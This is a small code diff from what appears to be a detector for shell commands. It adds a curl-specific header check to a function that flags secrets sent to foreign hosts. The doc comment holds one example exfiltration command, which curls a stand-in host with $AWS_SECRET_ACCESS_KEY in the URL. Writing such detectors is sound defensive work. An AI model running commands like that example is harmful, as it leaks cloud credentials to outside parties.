@@ -4,6 +4,7 @@ import { textOf } from '../../shell/command.js';
 import { emitResource } from '../command/emit.js';
 import { readArguments } from '../command/arguments.js';
 import { rowFor } from '../programs/index.js';
+import { shownHeaders } from './shown-headers.js';
 
 /**
  * Who gives out the tokens that variables of these names hold: the domains they are for, and the first names of machines on
@@ -55,6 +56,7 @@ const NEAR = /^(?:127(?:\.\d+){3}|10(?:\.\d+){3}|192\.168(?:\.\d+){2})$/;
 
 /** `curl "https://x.test/?k=$AWS_SECRET_ACCESS_KEY"`: a token that somebody else gave out goes to a host, in its address or as data. In a header it may be for a service of the same issuer, unless the host only poses as one. */
 export function foreignTokens(program: string, args: readonly Word[], running: Running): void {
+  if (program === 'curl') shownHeaders(args, running);
   const addresses = addressesOf(program, args);
   const all = addresses.flatMap(hostsOf);
   if (all.length === 0) return;
